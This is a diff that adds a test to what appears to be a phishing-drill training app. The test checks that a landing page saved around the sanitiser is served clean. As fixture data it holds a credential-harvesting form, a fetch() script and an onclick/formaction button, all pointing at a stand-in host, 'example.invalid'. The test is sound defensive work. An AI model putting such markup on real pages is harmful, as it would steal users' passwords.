@@ -97,6 +97,25 @@ def test_landing_page_form_has_nothing_to_send(client, world, drill):
     assert "drills/landing.js" in page
 
 
+def test_landing_page_stored_around_the_sanitiser_is_served_clean(client, world, drill):
+    """A page written straight to the table (not through the admin or the loader) is cleaned
+    as it is served: no script, no handler, no form target."""
+    recipient = sent_recipient(world, drill)
+    page = recipient.campaign.landing_page
+    page.html = (
+        '<form action="https://example.invalid/steal"><input type="password" name="password">'
+        '<script>fetch("https://example.invalid/x")</script>'
+        '<button type="submit" onclick="steal()" formaction="https://example.invalid/y">OK'
+        "</button></form>"
+    )
+    page.save()
+    served = client.get(reverse("drill-landing", args=[recipient.tracking_id])).content.decode()
+    assert "OK" in served
+    assert "example.invalid" not in served
+    assert "steal()" not in served and "<script>fetch" not in served
+    assert 'name="password"' not in served
+
+
 def test_scanner_hit_is_not_a_click(client, world, drill):
     recipient = sent_recipient(world, drill)
     click = reverse("drill-click", args=[recipient.tracking_id])
